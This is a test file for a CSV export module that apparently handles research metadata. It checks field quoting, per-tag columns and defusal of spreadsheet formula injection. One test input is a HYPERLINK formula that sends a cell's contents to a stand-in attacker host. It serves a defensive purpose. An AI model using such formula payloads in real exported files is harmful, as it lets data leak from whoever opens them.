import { csvLine, metadataCsv } from '../../src/reports/format';

describe('CSV', () => {
  it('quotes fields with commas, quotes and line breaks', () => {
    expect(csvLine(['a', 'b,c', 'say "x"', 'l1\nl2', null, 3])).toBe('a,"b,c","say ""x""","l1\nl2",,3\r\n');
  });

  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(csvLine(['=HYPERLINK("http://attacker.example/"&A2,"open")'])).toBe(
      `"'=HYPERLINK(""http://attacker.example/""&A2,""open"")"\r\n`,
    );
    expect(csvLine(['+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])).toBe(`'+1+1,'-2+3,'@SUM(A1),'\tx,"'\rx"\r\n`);
    expect(csvLine(['-12.5', '+3', -4, 'CT', 'a=b'])).toBe('-12.5,+3,-4,CT,a=b\r\n');
  });

  it('writes one column per configured tag, empty when the output lacks it', () => {
    const csv = metadataCsv(
      [
        {
          destination: 'research',
          sourceStudyId: 's',
          researchStudyId: 'rs',
          researchId: 'ri',
          pseudonym: 'RBX',
          fields: { Modality: 'MG' },
        },
      ],
      ['Modality', 'ViewPosition'],
    );
    expect(csv).toBe(
      'pseudonym,researchStudyId,researchInstanceId,Modality,ViewPosition\r\nRBX,rs,ri,MG,\r\n',
    );
  });
});
